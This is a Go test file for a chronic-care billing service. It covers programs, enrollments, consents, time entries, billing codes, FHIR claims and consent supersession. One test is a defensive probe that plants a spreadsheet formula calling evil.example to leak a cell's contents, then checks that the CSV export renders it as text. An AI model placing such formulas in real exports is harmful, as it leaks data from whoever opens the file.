package main

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"carepath"
	"carepath/fhirimport"
)

func TestProgramsAPI(t *testing.T) {
	m := startDemo(t, 20)
	base := m.Server.URL()
	org, sys := demoOrg(t, m)
	loc, _ := time.LoadLocation(org.TimeZone)
	token := apiToken(t, m, "cm@demo.carepath.example")
	dr, _ := m.DB.FindUserByEmail(sys, "physician@demo.carepath.example")
	ps, _, _ := m.DB.FindPatients(sys, carepath.PatientFilter{Limit: 20})
	patient := ps[0]

	var programs struct {
		Programs []struct {
			Program string
			Codes   []struct{ Code, From, Source string }
		}
	}
	if resp, body := apiSend(t, "GET", base+"/api/v1/programs", token, "", &programs); resp.StatusCode != 200 || len(programs.Programs) != 7 {
		t.Fatalf("programs: %d %s", resp.StatusCode, body)
	}
	for _, p := range programs.Programs {
		for _, c := range p.Codes {
			if c.Source == "" || c.From == "" {
				t.Errorf("%s %s without its source or date", p.Program, c.Code)
			}
		}
	}

	// The entries' month is the organization's month of their start (which,
	// in a month's first hour, is the month before).
	start := time.Now().Add(-55 * time.Minute).UTC()
	month := start.In(loc).Format("2006-01")
	for _, c := range []struct {
		method, path, body string
		status             int
	}{
		{"POST", "/api/v1/patients/" + patient.ID + "/enrollments", `{"program": "CCM", "practitioner_id": "` + dr.ID + `", "start": "` + start.In(loc).AddDate(0, 0, -1).Format(time.DateOnly) + `"}`, 201},
		{"POST", "/api/v1/patients/" + patient.ID + "/enrollments", `{"program": "CCM", "practitioner_id": "` + dr.ID + `", "start": "` + start.In(loc).Format(time.DateOnly) + `"}`, 400},
		{"POST", "/api/v1/patients/" + patient.ID + "/consents", `{"program": "CCM", "method": "verbal", "given": "` + start.Add(-time.Minute).Format(time.RFC3339) + `", "cost_sharing": true, "one_practitioner": true, "right_to_stop": true}`, 201},
		{"POST", "/api/v1/time-entries", fmt.Sprintf(`{"patient_id": %q, "program": "CCM", "start": %q, "minutes": 25, "activity": "call with patient"}`, patient.ID, start.Format(time.RFC3339)), 201},
		{"POST", "/api/v1/time-entries", fmt.Sprintf(`{"patient_id": %q, "program": "CCM", "start": %q, "minutes": 10, "activity": "care plan"}`, patient.ID, start.Add(10*time.Minute).Format(time.RFC3339)), 409},
		{"POST", "/api/v1/time-entries", fmt.Sprintf(`{"patient_id": %q, "program": "CCM", "start": %q, "minutes": 20, "activity": "care plan"}`, patient.ID, start.Add(30*time.Minute).Format(time.RFC3339)), 201},
		{"POST", "/api/v1/time-entries", fmt.Sprintf(`{"patient_id": %q, "program": "CCM", "start": %q, "minutes": 999, "activity": "gossip"}`, patient.ID, start.Format(time.RFC3339)), 400},
	} {
		if resp, body := apiSend(t, c.method, base+c.path, token, c.body, nil); resp.StatusCode != c.status {
			t.Errorf("%s %s %s: %d, want %d\n%s", c.method, c.path, c.body, resp.StatusCode, c.status, body)
		}
	}
	var bill struct {
		Counted map[string]int `json:"minutes_counted"`
		Lines   []struct {
			Code, Why, Source string
			Units             int
			Entries           []string
			TimeEntries       []struct{ Note string } `json:"time_entries"`
			Consent           *struct{ Method string }
		}
	}
	if resp, body := apiSend(t, "GET", base+"/api/v1/billing/"+month+"/patients/"+patient.ID, token, "", &bill); resp.StatusCode != 200 ||
		bill.Counted["CCM"] != 45 || len(bill.Lines) != 2 || bill.Lines[0].Code != "99490" || bill.Lines[1].Code != "99439" || len(bill.Lines[0].Entries) != 2 ||
		len(bill.Lines[0].TimeEntries) != 2 || bill.Lines[0].Consent == nil || bill.Lines[0].Consent.Method != "verbal" {
		t.Errorf("billing: %d %s", resp.StatusCode, body)
	}
	// The organization's month, and its lines as FHIR Claims.
	var report struct {
		Closed   bool
		Patients []struct {
			PatientID string `json:"patient_id"`
			Status    string
			Lines     []struct{ Code string }
		}
	}
	if resp, body := apiSend(t, "GET", base+"/api/v1/billing/"+month, token, "", &report); resp.StatusCode != 200 || report.Closed ||
		len(report.Patients) != 1 || report.Patients[0].Status != "needs sign-off" || len(report.Patients[0].Lines) != 2 {
		t.Errorf("the month's report: %d %s", resp.StatusCode, body)
	}
	resp, body := apiSend(t, "GET", base+"/api/v1/billing/"+month+"/claims", token, "", nil)
	var claim struct {
		ResourceType string
		Patient      struct{ Reference string }
		Provider     struct{ Reference string }
		Item         []struct {
			ProductOrService struct {
				Coding []struct{ System, Code string }
			}
			Quantity struct{ Value int }
		}
	}
	if lines := strings.Split(strings.TrimSpace(body), "\n"); resp.StatusCode != 200 || len(lines) != 1 || json.Unmarshal([]byte(lines[0]), &claim) != nil ||
		claim.ResourceType != "Claim" || claim.Patient.Reference != "Patient/"+patient.ID || claim.Provider.Reference != "Practitioner/"+dr.ID ||
		len(claim.Item) != 2 || claim.Item[0].ProductOrService.Coding[0].Code != "99490" || claim.Item[0].ProductOrService.Coding[0].System != "http://www.ama-assn.org/go/cpt" {
		t.Errorf("claims: %d %s", resp.StatusCode, body)
	}
	// The chart's header shows the month's minutes toward the next threshold.
	cmWeb := signIn(t, base, "cm@demo.carepath.example", DemoPassword)
	chart, _ := cmWeb.get(base + "/patients/" + patient.ID)
	if month == time.Now().In(loc).Format("2006-01") && !strings.Contains(chart, "CCM</a> 45 min of 60 (99439)") {
		t.Errorf("the chart's program minutes: %s", between(chart, "This month:", "</p>"))
	}
	page, resp := cmWeb.get(base + "/patients/" + patient.ID + "/programs")
	if resp.StatusCode != 200 || !strings.Contains(page, "99490") || !strings.Contains(page, "chronic condition") {
		t.Errorf("programs page: %d", resp.StatusCode)
	}

	// The security review's probe: a source names the patient with a
	// spreadsheet formula; the month's CSV carries it as text.
	formula := `=HYPERLINK("http://evil.example/?leak="&A2,"Bailey")`
	path := filepath.Join(t.TempDir(), "rename.json")
	os.WriteFile(path, []byte(`{"resourceType":"Patient","id":"`+patient.ID+`","name":[{"family":`+strconv.Quote(formula)+`,"given":["@SUM(1)"]}]}`), 0o644)
	if rep, err := fhirimport.Import(sys, m.DB, org.ID, []string{path}, fhirimport.Options{}); err != nil || len(rep.Failures) > 0 {
		t.Fatalf("import: %v %+v", err, rep)
	}
	csvBody, resp := signIn(t, base, "physician@demo.carepath.example", DemoPassword).get(base + "/billing/" + month + "/export.csv")
	rows, err := csv.NewReader(strings.NewReader(csvBody)).ReadAll()
	if resp.StatusCode != 200 || err != nil || len(rows) != 3 {
		t.Fatalf("CSV: %d %v\n%s", resp.StatusCode, err, csvBody)
	}
	for _, row := range rows[1:] {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@", rune(strings.TrimLeft(cell, " ")[0])) {
				t.Errorf("CSV cell %q would run in a spreadsheet", cell)
			}
		}
		if !slices.Contains(row, "'"+formula+", @SUM(1)") {
			t.Errorf("CSV row lacks the patient's name as text: %q", row)
		}
	}
}

// TestConsentInForceIsTheEvidence is the care manager's day: a consent at
// 13:19, then one backdated to 08:55 (the patient agreed on the morning
// call), and time at 09:00 and 10:00. The backdated one was accepted
// silently, both showed "in force", and the evidence packet named the
// 13:19 consent for minutes worked before it. Now one consent is in force
// at a time: the second is refused unless it supersedes the first, and
// each minute's evidence is the consent in force at that minute.
func TestConsentInForceIsTheEvidence(t *testing.T) {
	m := startDemo(t, 5)
	base := m.Server.URL()
	org, sys := demoOrg(t, m)
	loc, _ := time.LoadLocation(org.TimeZone)
	token := apiToken(t, m, "cm@demo.carepath.example")
	dr, _ := m.DB.FindUserByEmail(sys, "physician@demo.carepath.example")
	ps, _, _ := m.DB.FindPatients(sys, carepath.PatientFilter{Limit: 1})
	p := ps[0]
	morning := time.Now().Add(-6 * time.Hour).Truncate(time.Minute)
	afternoon := morning.Add(4 * time.Hour)
	consent := func(given time.Time, supersede bool) (*http.Response, string) {
		return apiSend(t, "POST", base+"/api/v1/patients/"+p.ID+"/consents", token, fmt.Sprintf(`{"program": "CCM", "method": "verbal", "given": %q,
			"cost_sharing": true, "one_practitioner": true, "right_to_stop": true, "supersede": %v}`, given.UTC().Format(time.RFC3339), supersede), nil)
	}
	if resp, body := apiSend(t, "POST", base+"/api/v1/patients/"+p.ID+"/enrollments", token, `{"program": "CCM", "practitioner_id": "`+dr.ID+`", "start": "`+
		morning.In(loc).AddDate(0, 0, -1).Format(time.DateOnly)+`"}`, nil); resp.StatusCode != 201 {
		t.Fatalf("enroll: %d %s", resp.StatusCode, body)
	}
	if resp, body := consent(afternoon, false); resp.StatusCode != 201 {
		t.Fatalf("the afternoon's consent: %d %s", resp.StatusCode, body)
	}
	if resp, body := consent(morning, false); resp.StatusCode != 400 || !strings.Contains(body, "is in force from") || !strings.Contains(body, "supersedes") {
		t.Errorf("a consent backdated into another's time, silently: %d %s", resp.StatusCode, body)
	}
	if resp, body := consent(morning, true); resp.StatusCode != 201 {
		t.Fatalf("the morning's consent, superseding: %d %s", resp.StatusCode, body)
	}
	for _, start := range []time.Time{morning.Add(5 * time.Minute), morning.Add(65 * time.Minute)} {
		if resp, body := apiSend(t, "POST", base+"/api/v1/time-entries", token, fmt.Sprintf(`{"patient_id": %q, "program": "CCM", "start": %q, "minutes": 20, "activity": "call with patient"}`,
			p.ID, start.UTC().Format(time.RFC3339)), nil); resp.StatusCode != 201 {
			t.Fatalf("time at %s: %d %s", start, resp.StatusCode, body)
		}
	}
	progs, err := m.DB.FindPatientPrograms(sys, p.ID, morning.In(loc).Format("2006-01"))
	if err != nil {
		t.Fatal(err)
	}
	inForce := 0
	for _, c := range progs.Consents {
		if c.Revoked.IsZero() {
			inForce++
		}
	}
	if inForce != 1 {
		t.Errorf("%d consents in force, want 1: %+v", inForce, progs.Consents)
	}
	var packet struct {
		Lines []struct {
			Code    string
			Consent *struct {
				ID    string
				Given time.Time
			}
			Time []struct {
				ConsentID string `json:"consent_id"`
			} `json:"time_entries"`
		}
	}
	if resp, body := apiSend(t, "GET", base+"/api/v1/billing/"+morning.In(loc).Format("2006-01")+"/patients/"+p.ID, token, "", &packet); resp.StatusCode != 200 || len(packet.Lines) == 0 {
		t.Fatalf("the packet: %d %s", resp.StatusCode, body)
	}
	l := packet.Lines[0]
	if l.Code != "99490" || l.Consent == nil || !l.Consent.Given.Equal(morning) || len(l.Time) != 2 || l.Time[0].ConsentID != l.Consent.ID || l.Time[1].ConsentID != l.Consent.ID {
		t.Errorf("the evidence of 09:00 and 10:00: %+v", l)
	}
}
